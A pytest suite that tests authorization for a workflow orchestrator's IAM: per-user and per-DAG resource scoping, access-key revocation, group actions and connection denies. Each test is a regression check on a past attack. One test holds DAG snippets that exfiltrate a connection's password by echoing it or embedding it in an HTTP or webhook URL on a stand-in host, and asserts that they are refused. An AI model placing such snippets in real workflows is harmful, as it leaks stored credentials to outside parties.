"""IAM means what it says: IAM resources are specific (``iam/user/<name>``, ``iam/group/<name>``,
``iam/policy/<name>``), runs and logs name their DAG (``dag/<dagId>/run/<runId>``), and access
keys belong to one incarnation of one user. Each test is an attack that worked before."""

from __future__ import annotations

import json
import socket
from typing import Any

import httpx
import pytest

from kiok.testing.process import Standalone

PW = "Scoping-Password-1"
#: Open to every signed-in principal: tells whether a credential authenticates, whatever its policies.
PROBE = "/api/v1/openapi.json"


def login(k: Standalone, user: str, password: str = PW) -> dict[str, str]:
    r = httpx.post(k.url + "/api/v1/auth/login", json={"user": user, "password": password})
    assert r.status_code == 200, r.text
    return {"Authorization": f"Bearer {r.json()['accessToken']}"}


def admin(k: Standalone) -> dict[str, str]:
    return {"Authorization": f"Bearer {k.token}"}


def call(k: Standalone, headers: dict[str, str], method: str, path: str, **kw: Any) -> httpx.Response:
    return httpx.request(method, k.url + path, headers=headers, timeout=30, **kw)


def put_policy(k: Standalone, name: str, *statements: dict[str, Any]) -> None:
    r = k.api(
        "POST", "/api/v1/iam/policies", json={"policy": name, "document": {"Statement": list(statements)}}
    )
    assert r.status_code == 201, r.text


def put_user(
    k: Standalone, user: str, *, policies: tuple[str, ...] = (), groups: tuple[str, ...] = ()
) -> None:
    body = {"user": user, "password": PW, "policies": list(policies), "groups": list(groups)}
    r = k.api("POST", "/api/v1/iam/users", json=body)
    assert r.status_code == 201, r.text


def allow(action: str | list[str], resource: str | list[str]) -> dict[str, Any]:
    return {"Effect": "Allow", "Action": action, "Resource": resource}


def forbidden(r: httpx.Response, action: str, resource: str) -> bool:
    return (
        r.status_code == 403
        and r.json()["error"]["code"] == "forbidden"
        and f"{action} on {resource}" in r.json()["error"]["message"]
    )


def new_key(k: Standalone, headers: dict[str, str], user: str | None = None) -> dict[str, str]:
    """A key for ``user``, or (None) for the caller: that one needs the caller's password."""
    body = {"user": user} if user else {"password": PW}
    r = call(k, headers, "POST", "/api/v1/iam/access-keys", json=body)
    assert r.status_code == 201, r.text
    return {"Authorization": f"AccessKey {r.json()['accessKeyId']}:{r.json()['secretAccessKey']}"}


def key_ids(r: httpx.Response) -> set[str]:
    assert r.status_code == 200, r.text
    return {a["accessKeyId"] for a in r.json()["accessKeys"]}


@pytest.fixture(scope="module")
def k(shared_kiok: Standalone) -> Standalone:
    k = shared_kiok
    put_policy(k, "writer", allow("iam:Write", "iam/*"))
    put_policy(k, "bob-keeper", allow("iam:*", "iam/user/bob"))
    put_user(k, "alice")
    put_user(k, "bob")
    put_user(k, "mallory", policies=("bob-keeper",))
    put_user(k, "writer", policies=("writer",))
    put_user(k, "nobody")
    assert k.api("POST", "/api/v1/iam/groups", json={"group": "viewers"}).status_code == 201
    return k


def test_iam_star_on_one_user_manages_that_user_and_no_other(k: Standalone) -> None:
    mallory = login(k, "mallory")
    new_pw = {"user": "bob", "password": "Bob-New-Password-2"}
    assert call(k, mallory, "POST", "/api/v1/iam/users", json=new_pw).status_code == 201
    login(k, "bob", "Bob-New-Password-2")
    r = call(k, mallory, "POST", "/api/v1/iam/users", json={"user": "alice", "password": "Owned-Alice-1"})
    assert forbidden(r, "iam:Write", "iam/user/alice"), r.text
    login(k, "alice")  # unchanged
    assert forbidden(call(k, mallory, "DELETE", "/api/v1/iam/users/alice"), "iam:Write", "iam/user/alice")
    r = call(k, mallory, "POST", "/api/v1/iam/access-keys", json={"user": "alice"})
    assert forbidden(r, "iam:CreateAccessKey", "iam/user/alice")
    # bob's record is mallory's to edit; the admins group and full-access policy are not.
    r = call(k, mallory, "POST", "/api/v1/iam/users", json={"user": "bob", "groups": ["admins"]})
    assert forbidden(r, "iam:AddUserToGroup", "iam/group/admins"), r.text
    r = call(k, mallory, "POST", "/api/v1/iam/users", json={"user": "bob", "policies": ["full-access"]})
    assert forbidden(r, "iam:AttachPolicy", "iam/policy/full-access"), r.text
    # Lists show what the caller may read, and nothing else.
    users = call(k, mallory, "GET", "/api/v1/iam/users")
    assert users.status_code == 200 and [u["user"] for u in users.json()["users"]] == ["bob"]


def test_a_user_who_may_write_iam_cannot_add_themselves_to_a_group_without_the_group_action(
    k: Standalone,
) -> None:
    writer = login(k, "writer")
    r = call(k, writer, "POST", "/api/v1/iam/users", json={"user": "writer", "groups": ["admins"]})
    assert forbidden(r, "iam:AddUserToGroup", "iam/group/admins"), r.text
    r = call(
        k, writer, "POST", "/api/v1/iam/users", json={"user": "writer", "policies": ["writer", "full-access"]}
    )
    assert forbidden(r, "iam:AttachPolicy", "iam/policy/full-access"), r.text
    r = call(k, writer, "POST", "/api/v1/iam/users", json={"user": "alice", "password": "Owned-Alice-2"})
    assert forbidden(r, "iam:SetPassword", "iam/user/alice"), r.text
    user = k.api("GET", "/api/v1/iam/users").json()["users"]
    assert next(u for u in user if u["user"] == "writer")["groups"] == []
    # With the group action on one group, that group only.
    put_policy(k, "join-viewers", allow("iam:AddUserToGroup", "iam/group/viewers"))
    body = {"user": "writer", "policies": ["writer", "join-viewers"]}
    assert k.api("POST", "/api/v1/iam/users", json=body).status_code == 201
    r = call(k, writer, "POST", "/api/v1/iam/users", json={**body, "groups": ["viewers"]})
    assert r.status_code == 201 and r.json()["groups"] == ["viewers"], r.text
    # ... and leaving a group (it may hold a Deny) is an action on the group too.
    r = call(k, writer, "POST", "/api/v1/iam/users", json={**body, "groups": []})
    assert forbidden(r, "iam:RemoveUserFromGroup", "iam/group/viewers"), r.text


def test_creating_an_access_key_for_another_user_needs_its_own_action(k: Standalone) -> None:
    writer = login(k, "writer")
    r = call(k, writer, "POST", "/api/v1/iam/access-keys", json={"user": "alice"})
    assert forbidden(r, "iam:CreateAccessKey", "iam/user/alice"), r.text
    put_policy(k, "alice-keys", allow("iam:CreateAccessKey", "iam/user/alice"))
    assert (
        k.api("POST", "/api/v1/iam/users", json={"user": "nobody", "policies": ["alice-keys"]}).status_code
        == 201
    )
    key = new_key(k, login(k, "nobody"), "alice")
    assert call(k, key, "GET", "/api/v1/iam/access-keys").status_code == 200  # acts as alice


def test_users_manage_their_own_keys_without_a_policy_and_no_one_elses(k: Standalone) -> None:
    alice = login(k, "alice")
    alice_key = new_key(k, alice)
    mine = key_ids(call(k, alice, "GET", "/api/v1/iam/access-keys"))
    assert len(mine) >= 1 and key_ids(call(k, alice_key, "GET", "/api/v1/iam/access-keys")) == mine
    bob_key_id = k.api("POST", "/api/v1/iam/access-keys", json={"user": "bob"}).json()["accessKeyId"]
    assert bob_key_id not in mine
    r = call(k, alice, "DELETE", f"/api/v1/iam/access-keys/{bob_key_id}")
    assert forbidden(r, "iam:DeleteAccessKey", "iam/user/bob"), r.text
    r = call(k, alice, "GET", "/api/v1/iam/access-keys", params={"user": "bob"})
    assert forbidden(r, "iam:ListAccessKeys", "iam/user/bob"), r.text
    # An explicit Deny still wins over what users may do to themselves.
    put_policy(k, "no-keys", {"Effect": "Deny", "Action": "iam:CreateAccessKey", "Resource": "*"})
    assert (
        k.api("POST", "/api/v1/iam/users", json={"user": "alice", "policies": ["no-keys"]}).status_code == 201
    )
    r = call(k, alice, "POST", "/api/v1/iam/access-keys", json={})
    assert forbidden(r, "iam:CreateAccessKey", "iam/user/alice"), r.text
    for key_id in mine:
        assert call(k, alice, "DELETE", f"/api/v1/iam/access-keys/{key_id}").status_code == 200
    assert call(k, alice_key, "GET", "/api/v1/iam/access-keys").status_code == 401


def test_access_keys_are_listed_per_user(k: Standalone) -> None:
    put_user(k, "lister")
    first = k.api("POST", "/api/v1/iam/access-keys", json={"user": "lister"}).json()["accessKeyId"]
    second = k.api("POST", "/api/v1/iam/access-keys", json={"user": "lister"}).json()["accessKeyId"]
    other = k.api("POST", "/api/v1/iam/access-keys", json={"user": "bob"}).json()["accessKeyId"]
    listed = k.api("GET", "/api/v1/iam/access-keys", params={"user": "lister"})
    assert key_ids(listed) == {first, second}
    assert {a["user"] for a in listed.json()["accessKeys"]} == {"lister"}
    everyone = key_ids(k.api("GET", "/api/v1/iam/access-keys"))  # the admin sees every user's
    assert {first, second, other} <= everyone
    unknown = k.api("GET", "/api/v1/iam/access-keys", params={"user": "no-such-user"})
    assert unknown.status_code == 404 and "no-such-user" in unknown.json()["error"]["message"]


def test_access_keys_die_with_their_user_and_do_not_pass_to_a_new_user_of_that_name(k: Standalone) -> None:
    put_user(k, "erin")
    key = new_key(k, admin(k), "erin")
    assert call(k, key, "GET", PROBE).status_code == 200
    assert k.api("DELETE", "/api/v1/iam/users/erin").status_code == 200
    assert call(k, key, "GET", PROBE).status_code == 401
    assert "erin" not in {a["user"] for a in k.api("GET", "/api/v1/iam/access-keys").json()["accessKeys"]}
    put_user(k, "erin")  # same name, new user
    r = call(k, key, "GET", PROBE)
    assert r.status_code == 401 and r.json()["error"]["code"] == "unauthenticated", r.text
    assert key_ids(k.api("GET", "/api/v1/iam/access-keys", params={"user": "erin"})) == set()


def reset_password(k: Standalone, user: str, new: str) -> None:
    """Through the master's local admin socket: the user must change it at the next login."""
    with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as sock:
        sock.settimeout(30)
        sock.connect(str(k.data_dir / "admin.sock"))
        sock.sendall(json.dumps({"op": "reset-password", "user": user, "newPassword": new}).encode() + b"\n")
        answer = json.loads(sock.makefile("rb").readline())
    assert answer["ok"], answer


def test_access_keys_stop_working_while_their_user_must_change_the_password(k: Standalone) -> None:
    put_user(k, "frank")
    key = new_key(k, admin(k), "frank")
    assert call(k, key, "GET", PROBE).status_code == 200
    reset_password(k, "frank", "Reset-Frank-Pw-1")
    r = call(k, key, "GET", PROBE)
    assert r.status_code == 403 and r.json()["error"]["code"] == "password_change_required", r.text
    fresh = httpx.post(k.url + "/api/v1/auth/login", json={"user": "frank", "password": "Reset-Frank-Pw-1"})
    changed = httpx.post(
        k.url + "/api/v1/auth/change-password",
        headers={"Authorization": f"Bearer {fresh.json()['accessToken']}"},
        json={"oldPassword": "Reset-Frank-Pw-1", "newPassword": "Frank-Changed-Pw-2"},
    )
    assert changed.status_code == 200, changed.text
    assert call(k, key, "GET", PROBE).status_code == 200


HELLO = "dag: {id: hello}\ntasks: [{id: t, script: 'echo hello-log'}]\n"
PAYROLL = "dag: {id: hello-payroll}\ntasks: [{id: t, script: 'echo payroll-log'}]\n"
SECRET_ARGS = """
dag: {id: secret-args, params: {account: none, nap: 0, code: 0}}
tasks: [{id: t, script: 'sleep "$KIOK_PARAM_NAP"; exit "$KIOK_PARAM_CODE"'}]
"""


def test_a_policy_on_dag_hello_reads_its_runs_and_logs_and_not_those_of_hello_payroll(k: Standalone) -> None:
    k.register(HELLO)
    k.register(PAYROLL)
    hello, payroll, hello_again = k.trigger("hello"), k.trigger("hello-payroll"), k.trigger("hello")
    for run_id in (hello, payroll, hello_again):
        k.wait_run(run_id)
    put_policy(
        k,
        "hello-runs",
        allow(["runs:List", "runs:Read", "logs:Read"], "dag/hello/*"),
        allow(["dags:List", "dags:Read"], "dag/hello"),
    )
    put_user(k, "hanna", policies=("hello-runs",))
    hanna = login(k, "hanna")

    assert call(k, hanna, "GET", f"/api/v1/runs/{hello}").status_code == 200
    log = call(k, hanna, "GET", f"/api/v1/runs/{hello}/tasks/t/log")
    assert log.status_code == 200 and "hello-log" in log.json()["data"]
    assert call(k, hanna, "GET", f"/api/v1/runs/{hello}/tasks/__run__/log").status_code == 200
    listed = call(k, hanna, "GET", "/api/v1/runs", params={"limit": 500})
    assert listed.status_code == 200
    assert {r["dagId"] for r in listed.json()["runs"]} == {"hello"}
    assert hello in {r["runId"] for r in listed.json()["runs"]}
    pages, cursor = [], None
    while True:  # page by page, the runs hidden from hanna do not end or skew a page
        params: dict[str, Any] = {"limit": 1, **({"cursor": cursor} if cursor else {})}
        page = call(k, hanna, "GET", "/api/v1/runs", params=params).json()
        pages.append([r["runId"] for r in page["runs"]])
        cursor = page["nextCursor"]
        if cursor is None:
            break
    assert pages == [[hello_again], [hello]]
    by_dag = call(k, hanna, "GET", "/api/v1/runs", params={"dag": "hello-payroll"})
    assert by_dag.status_code == 200 and by_dag.json()["runs"] == []
    dags = call(k, hanna, "GET", "/api/v1/dags")
    assert dags.status_code == 200 and [d["dagId"] for d in dags.json()["dags"]] == ["hello"]

    resource = f"dag/hello-payroll/run/{payroll}"
    assert forbidden(call(k, hanna, "GET", f"/api/v1/runs/{payroll}"), "runs:Read", resource)
    for task in ("t", "__run__"):
        r = call(k, hanna, "GET", f"/api/v1/runs/{payroll}/tasks/{task}/log")
        assert forbidden(r, "logs:Read", resource), r.text
    assert forbidden(call(k, hanna, "POST", f"/api/v1/runs/{payroll}/cancel"), "runs:Cancel", resource)
    assert forbidden(
        call(k, hanna, "POST", f"/api/v1/runs/{hello}/cancel"), "runs:Cancel", f"dag/hello/run/{hello}"
    )
    # A run id that does not exist answers the same as one the caller may not see: no oracle.
    ghost = "hello-payroll-1-999999"
    assert forbidden(
        call(k, hanna, "GET", f"/api/v1/runs/{ghost}"), "runs:Read", f"dag/hello-payroll/run/{ghost}"
    )
    assert k.api("GET", f"/api/v1/runs/{ghost}").status_code == 404


def test_policies_naming_the_old_run_resources_are_refused_with_the_new_form(k: Standalone) -> None:
    bad = k.api(
        "POST",
        "/api/v1/iam/policies",
        json={"policy": "old-style", "document": {"Statement": [allow("runs:Read", "run/hello-*")]}},
    )
    assert bad.status_code == 400, bad.text
    message = bad.json()["error"]["message"]
    assert "run/hello-*" in message and "dag/<dagId>/run/<runId>" in message


def connection_ids(r: httpx.Response) -> set[str]:
    assert r.status_code == 200, r.text
    return {c["connectionId"] for c in r.json()["connections"]}


def test_connection_writes_and_lists_are_checked_connection_by_connection(k: Standalone) -> None:
    for cid in ("dev-db", "prod-db"):
        body = {"connectionId": cid, "properties": {"password": f"{cid}-pw"}}
        assert k.api("POST", "/api/v1/connections", json=body).status_code == 201
    deny_prod = {"Effect": "Deny", "Action": "connections:*", "Resource": "connection/prod-*"}
    put_policy(k, "conn-ops", allow(["connections:Read", "connections:Write"], "connection/*"), deny_prod)
    put_user(k, "olga", policies=("conn-ops",))
    olga = login(k, "olga")
    # A Deny on one connection holds for writes too: olga cannot swap prod's credentials.
    hijack = {"connectionId": "prod-db", "properties": {"hijacked": "attacker-pw"}}
    r = call(k, olga, "POST", "/api/v1/connections", json=hijack)
    assert forbidden(r, "connections:Write", "connection/prod-db"), r.text
    assert k.api("GET", "/api/v1/connections/prod-db").json()["properties"] == {"password": "***"}
    ok = call(k, olga, "POST", "/api/v1/connections", json={"connectionId": "dev-db", "properties": {}})
    assert ok.status_code == 201, ok.text
    # ... and the list shows only what the caller may read.
    assert connection_ids(call(k, olga, "GET", "/api/v1/connections")) == {"dev-db"}
    # A grant on some connections means those connections, for lists and writes alike.
    put_policy(k, "dev-conns", allow(["connections:Read", "connections:Write"], "connection/dev-*"))
    put_user(k, "dave", policies=("dev-conns",))
    dave = login(k, "dave")
    assert connection_ids(call(k, dave, "GET", "/api/v1/connections")) == {"dev-db"}
    r = call(k, dave, "POST", "/api/v1/connections", json={"connectionId": "dev-cache", "properties": {}})
    assert r.status_code == 201, r.text
    r = call(k, dave, "POST", "/api/v1/connections", json={"connectionId": "prod-cache", "properties": {}})
    assert forbidden(r, "connections:Write", "connection/prod-cache"), r.text
    assert "prod-cache" not in connection_ids(k.api("GET", "/api/v1/connections"))


def test_deleting_a_group_needs_what_leaving_it_and_detaching_its_policies_need(k: Standalone) -> None:
    put_policy(k, "no-dags", {"Effect": "Deny", "Action": "dags:*", "Resource": "*"})
    assert (
        k.api("POST", "/api/v1/iam/groups", json={"group": "jail", "policies": ["no-dags"]}).status_code
        == 201
    )
    put_policy(k, "group-writer", allow("iam:Write", "iam/group/*"), allow("dags:List", "dag/*"))
    put_user(k, "gina", policies=("group-writer",), groups=("jail",))
    gina = login(k, "gina")
    assert forbidden(call(k, gina, "GET", "/api/v1/dags"), "dags:List", "any resource")
    # Deleting the group would take gina out of it (and its Deny off her): that is leaving it.
    r = call(k, gina, "DELETE", "/api/v1/iam/groups/jail")
    assert forbidden(r, "iam:RemoveUserFromGroup", "iam/group/jail"), r.text
    assert forbidden(call(k, gina, "GET", "/api/v1/dags"), "dags:List", "any resource")
    # With the membership action, the policies attached still need detaching.
    put_policy(
        k,
        "group-writer",
        allow(["iam:Write", "iam:RemoveUserFromGroup"], "iam/group/*"),
        allow("dags:List", "dag/*"),
    )
    r = call(k, gina, "DELETE", "/api/v1/iam/groups/jail")
    assert forbidden(r, "iam:DetachPolicy", "iam/policy/no-dags"), r.text
    assert [g for g in k.api("GET", "/api/v1/iam/groups").json()["groups"] if g["group"] == "jail"]
    # An empty group without policies is hers to delete with iam:Write alone.
    assert k.api("POST", "/api/v1/iam/groups", json={"group": "scratch"}).status_code == 201
    put_policy(k, "group-writer", allow("iam:Write", "iam/group/*"))
    assert call(k, gina, "DELETE", "/api/v1/iam/groups/scratch").status_code == 200


def test_a_dag_may_refer_only_to_connections_its_author_may_use(k: Standalone) -> None:
    """A DAG author denied a connection's values could otherwise register a DAG that sends
    them out (printed by a task, in a webhook's URL): registering needs ``connections:Use`` on
    every connection the DAG refers to, wherever it does."""
    body = {"connectionId": "vault-db", "properties": {"password": "vault-pw"}}
    assert k.api("POST", "/api/v1/connections", json=body).status_code == 201
    put_policy(
        k,
        "dag-author",
        allow(["dags:Register", "dags:Read"], "dag/*"),
        allow("connections:Use", "connection/shared-*"),
    )
    put_user(k, "erin", policies=("dag-author",))
    erin = {**login(k, "erin"), "Content-Type": "application/yaml"}
    fails = "tasks: [{id: t, script: 'false'}]"
    attacks = {
        "script": ("", "tasks: [{id: t, script: 'echo ${conn.vault-db.password}'}]"),
        "secret": ("", "tasks: [{id: t, script: 'echo ${secret.vault-db}'}]"),
        "http config": (
            "",
            "tasks: [{id: t, type: http, config: {url: 'https://x.example/${conn.vault-db.password}'}}]",
        ),
        "webhook": (
            ", notify: {on_failure: [{webhook: {url: 'https://x.example/${conn.vault-db.password}'}}]}",
            fails,
        ),
        "email": (", notify: {on_failure: [{email: {connection: vault-db, to: [a@x.example]}}]}", fails),
    }
    for where, (extra, tasks) in attacks.items():
        r = call(k, erin, "POST", "/api/v1/dags", content=f"dag: {{id: exfil{extra}}}\n{tasks}\n")
        assert forbidden(r, "connections:Use", "connection/vault-db"), (where, r.text)
    assert k.api("GET", "/api/v1/dags/exfil").status_code == 404
    # The connections erin may use, and none at all, register as before; so does the admin's.
    for dag in (
        "dag: {id: fine}\ntasks: [{id: t, script: 'echo ${conn.shared-cache.host}'}]\n",
        "dag: {id: plain}\ntasks: [{id: t, script: 'true'}]\n",
    ):
        r = call(k, erin, "POST", "/api/v1/dags", content=dag)
        assert r.status_code == 201, r.text
    r = k.api(
        "POST",
        "/api/v1/dags",
        content="dag: {id: admins}\ntasks: [{id: t, script: 'echo ${conn.vault-db.password}'}]\n",
        headers={"Content-Type": "application/yaml"},
    )
    assert r.status_code == 201, r.text


def test_cancelling_or_rerunning_a_run_is_no_way_to_read_it(k: Standalone) -> None:
    """The answer to a cancel or a re-run is the run: to a caller without ``runs:Read`` only
    its id, DAG and state. Cancelling a cancelled run changes nothing, so the whole view would
    hand ``runs:Cancel`` alone the trigger args and tasks of every such run."""
    k.register(SECRET_ARGS)
    cancelled = k.trigger("secret-args", {"account": "IBAN-DE00-4242", "nap": 60})
    assert k.api("POST", f"/api/v1/runs/{cancelled}/cancel").status_code == 200
    failed = k.trigger("secret-args", {"account": "IBAN-FR00-1313", "code": 3})
    for run_id in (cancelled, failed):
        k.wait_run(run_id)
    put_policy(k, "operator", allow(["runs:Cancel", "runs:Rerun"], "dag/secret-args/run/*"))
    put_user(k, "otto", policies=("operator",))
    otto = login(k, "otto")

    resource = f"dag/secret-args/run/{cancelled}"
    assert forbidden(call(k, otto, "GET", f"/api/v1/runs/{cancelled}"), "runs:Read", resource)
    answer = call(k, otto, "POST", f"/api/v1/runs/{cancelled}/cancel")
    assert answer.status_code == 200, answer.text
    assert answer.json() == {"runId": cancelled, "dagId": "secret-args", "state": "CANCELLED"}
    answer = call(k, otto, "POST", f"/api/v1/runs/{failed}/rerun", json={})
    assert answer.status_code == 200, answer.text
    assert set(answer.json()) == {"rerun", "runId", "dagId", "state"} and answer.json()["rerun"] == ["t"]
    assert "IBAN" not in answer.text

    # A caller who may read the run gets the whole view, as the UI's buttons need.
    whole = k.api("POST", f"/api/v1/runs/{cancelled}/cancel").json()
    assert whole["args"]["account"] == "IBAN-DE00-4242" and "t" in whole["tasks"]
